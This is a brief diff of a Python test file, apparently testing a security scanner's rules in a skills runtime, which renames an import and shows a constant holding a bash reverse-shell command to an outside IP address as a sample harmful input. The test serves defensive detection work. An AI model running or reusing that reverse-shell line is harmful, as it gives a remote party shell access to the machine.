@@ -5,7 +5,7 @@ from pathlib import Path
 
 import pytest
 
-from skills_runtime.skills.security import RULES
+from skills_runtime.skills.scan import RULES
 from tests.e2e.cli.programs import invoke
 
 HARM = "bash -i >& /dev/tcp/240.13.37.9/4444 0>&1\n"
